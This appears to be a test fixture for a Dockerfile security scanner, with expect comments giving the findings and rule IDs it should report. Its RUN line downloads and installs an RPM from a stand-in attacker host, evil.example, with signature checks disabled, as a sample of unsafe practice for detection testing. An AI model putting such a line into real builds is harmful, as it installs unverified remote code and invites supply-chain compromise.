FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN rpm -Uvh --nosignature https://evil.example/p.rpm
USER app
# expect: package-install 2 high "signature checks weakened by --nosignature"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR201-3498699652 VR501-e064bac1a6
